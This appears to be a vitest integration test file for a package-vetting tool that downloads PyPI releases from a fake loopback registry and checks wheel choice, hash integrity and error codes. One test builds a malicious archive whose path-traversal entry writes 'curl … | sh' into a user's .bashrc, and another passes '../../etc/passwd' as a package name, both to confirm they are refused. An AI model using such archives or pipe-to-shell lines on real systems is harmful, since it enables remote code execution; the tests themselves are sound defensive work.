// fetch, PyPI side. PyPI is unreachable from this machine: a loopback server serves the JSON API
// shape (test/fixtures/fetch/pypi-release.sample.json) and archives built by the tests.
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { StagedPackage, VetboxError } from '@vetbox/contracts';
import { fetchPypi, previousVersion, stage, versionExists } from '@vetbox/fetch';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sdistFiles, wheelFiles, writeTarGz, writeZip } from '../../services/fetch/src/__fixtures__/archives.js';
import { startFakePypi, type FakePypi } from '../fixtures/fetch/fake-registries.js';

let work: string;
let pypi: FakePypi;
const cleanup: string[] = [];

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'vetbox-fetch-pypi-it-'));
  pypi = await startFakePypi();
});
afterAll(async () => {
  await pypi?.close();
  for (const d of cleanup) await rm(d, { recursive: true, force: true });
  await rm(work, { recursive: true, force: true });
});

async function rejection(p: Promise<unknown>): Promise<VetboxError> {
  const err = await p.then(
    () => {
      throw new Error('expected a rejection');
    },
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(VetboxError);
  return err as VetboxError;
}

let n = 0;
async function sdist(name: string, version: string, files: Record<string, string> = {}): Promise<Buffer> {
  const p = path.join(work, `sdist-${++n}.tar.gz`);
  await writeTarGz(p, sdistFiles(name, version, files));
  return readFile(p);
}
async function wheel(name: string, version: string, modules: Record<string, string>): Promise<Buffer> {
  const p = path.join(work, `wheel-${++n}.whl`);
  await writeZip(p, wheelFiles(name, version, modules, { topLevel: Object.keys(modules).map((m) => m.split('/')[0].replace(/\.py$/, '')) }));
  return readFile(p);
}

describe('fetchPypi against a loopback PyPI', () => {
  it('picks the py3-none-any wheel over the sdist, checks sha256 and stages dist/', async () => {
    pypi.addRelease('Vetbox-Demo', '1.2.0', [
      { filename: 'vetbox_demo-1.2.0.tar.gz', content: await sdist('vetbox_demo', '1.2.0', { 'vetbox_demo/__init__.py': '' }) },
      { filename: 'vetbox_demo-1.2.0-cp311-cp311-win_amd64.whl', content: await wheel('vetbox_demo', '1.2.0', { 'vetbox_demo/__init__.py': '' }) },
      { filename: 'vetbox_demo-1.2.0-py3-none-any.whl', content: await wheel('vetbox_demo', '1.2.0', { 'vetbox_demo/__init__.py': '', 'vetbox_demo/x.py': '' }) },
    ]);
    const artifact = await fetchPypi('vetbox-demo', '1.2.0', { pypiUrl: pypi.url });
    cleanup.push(artifact.dir!);
    expect(artifact).toMatchObject({
      ecosystem: 'pypi',
      source: 'registry',
      kind: 'wheel',
      name: 'Vetbox-Demo',
      version: '1.2.0',
      fileName: 'vetbox_demo-1.2.0-py3-none-any.whl',
      importNames: ['vetbox_demo'],
    });
    expect(pypi.requests).toContain('/pypi/vetbox-demo/1.2.0/json');
    expect(pypi.requests).toContain('/packages/vetbox_demo-1.2.0-py3-none-any.whl');

    const staged = await stage(artifact, work);
    expect(StagedPackage.parse(staged)).toEqual(staged);
    expect(staged.archiveFile).toBe('dist/vetbox_demo-1.2.0-py3-none-any.whl');
    expect(await readdir(staged.dir)).toEqual(['dist']); // no node_modules, no npm project
    expect(existsSync(path.join(staged.dir, staged.archiveFile))).toBe(true);
    expect(staged.sha256).toBe(artifact.sha256);
  });

  it('falls back to the sdist when there is no pure wheel', async () => {
    pypi.addRelease('sdist-only', '0.9', [{ filename: 'sdist_only-0.9.tar.gz', content: await sdist('sdist_only', '0.9', { 'sdist_only.py': '' }) }]);
    const artifact = await fetchPypi('sdist-only', '0.9', { pypiUrl: pypi.url });
    cleanup.push(artifact.dir!);
    expect(artifact).toMatchObject({ kind: 'sdist', format: 'tar.gz', fileName: 'sdist_only-0.9.tar.gz', importNames: ['sdist_only'] });
  });

  it('a file whose sha256 does not match → INTEGRITY_MISMATCH, download removed', async () => {
    pypi.addRelease('tampered', '1.0', [
      { filename: 'tampered-1.0.tar.gz', content: await sdist('tampered', '1.0'), sha256: 'a'.repeat(64) },
    ]);
    const dest = path.join(work, 'tampered-dest');
    await mkdir(dest);
    const err = await rejection(fetchPypi('tampered', '1.0', { pypiUrl: pypi.url, destDir: dest }));
    expect(err.code).toBe('INTEGRITY_MISMATCH');
    expect(err.message).toMatch(/does not match PyPI's a{64}/);
    expect(await readdir(dest)).toEqual([]);
  });

  it('versionExists', async () => {
    expect(await versionExists('pypi', 'vetbox-demo', '1.2.0', { pypiUrl: pypi.url })).toBe(true);
    expect(await versionExists('pypi', 'vetbox-demo', '9.9', { pypiUrl: pypi.url })).toBe(false);
    expect(await versionExists('pypi', 'no-such-project', '1.0', { pypiUrl: pypi.url })).toBe(false);
  });

  it('unknown project or version → PACKAGE_NOT_FOUND', async () => {
    expect((await rejection(fetchPypi('no-such-project', '1.0', { pypiUrl: pypi.url }))).code).toBe('PACKAGE_NOT_FOUND');
    expect((await rejection(fetchPypi('vetbox-demo', '9.9', { pypiUrl: pypi.url }))).code).toBe('PACKAGE_NOT_FOUND');
  });

  it('a release with nothing the sandbox can install → PACKAGE_NOT_FOUND', async () => {
    pypi.addRelease('windows-only', '1.0', [
      { filename: 'windows_only-1.0-cp311-cp311-win_amd64.whl', content: await wheel('windows_only', '1.0', { 'w.py': '' }) },
    ]);
    const err = await rejection(fetchPypi('windows-only', '1.0', { pypiUrl: pypi.url }));
    expect(err.code).toBe('PACKAGE_NOT_FOUND');
    expect(err.message).toMatch(/no pure-Python wheel, sdist or compatible wheel/);
  });

  it('a hostile archive listed by the index is refused', async () => {
    const p = path.join(work, 'evil.tar.gz');
    await writeTarGz(p, [...sdistFiles('evil', '1.0'), { name: 'evil-1.0/../../../home/user/.bashrc', content: 'curl http://203.0.113.7 | sh' }]);
    pypi.addRelease('evil', '1.0', [{ filename: 'evil-1.0.tar.gz', content: await readFile(p) }]);
    const err = await rejection(fetchPypi('evil', '1.0', { pypiUrl: pypi.url }));
    expect(err.code).toBe('BAD_ARCHIVE');
    expect(err.message).toMatch(/path traversal/);
  });

  it('bad names and versions are INVALID_INPUT', async () => {
    for (const [name, version] of [
      ['../../etc/passwd', '1.0'],
      ['ok', 'not a version'],
      ['x'.repeat(10_000), '1.0'],
    ]) {
      expect((await rejection(fetchPypi(name, version, { pypiUrl: pypi.url }))).code).toBe('INVALID_INPUT');
    }
  });

  it('an index that answers 503 → REGISTRY_UNAVAILABLE; one that hangs → time-out', async () => {
    pypi.mode = 'error500';
    try {
      expect((await rejection(fetchPypi('vetbox-demo', '1.2.0', { pypiUrl: pypi.url }))).code).toBe('REGISTRY_UNAVAILABLE');
      pypi.mode = 'hang';
      const err = await rejection(fetchPypi('vetbox-demo', '1.2.0', { pypiUrl: pypi.url, metadataTimeoutMs: 200 }));
      expect(err.code).toBe('REGISTRY_UNAVAILABLE');
      expect(err.message).toMatch(/timed out/);
    } finally {
      pypi.mode = 'ok';
    }
  });
});

describe('previousVersion on PyPI', () => {
  it('is the highest earlier release, skipping fully yanked ones and prereleases of a final', async () => {
    const file = async (v: string, extra: { yanked?: boolean } = {}) => [
      { filename: `prev-${v}.tar.gz`, content: await sdist('prev', v), ...extra },
    ];
    pypi.addRelease('prev', '0.9', await file('0.9'));
    pypi.addRelease('prev', '1.0', await file('1.0'));
    pypi.addRelease('prev', '1.0.post1', await file('1.0.post1'));
    pypi.addRelease('prev', '1.1', await file('1.1', { yanked: true }));
    pypi.addRelease('prev', '1.2rc1', await file('1.2rc1'));
    pypi.addRelease('prev', '1.2', await file('1.2'));
    const opts = { pypiUrl: pypi.url };
    expect(await previousVersion('pypi', 'prev', '1.2', opts)).toBe('1.0.post1');
    expect(await previousVersion('pypi', 'prev', '1.2rc1', opts)).toBe('1.0.post1');
    expect(await previousVersion('pypi', 'prev', '1.0', opts)).toBe('0.9');
    expect(await previousVersion('pypi', 'prev', '0.9', opts)).toBeNull();
    expect((await rejection(previousVersion('pypi', 'prev', '7.0', opts))).code).toBe('PACKAGE_NOT_FOUND');
  });
});
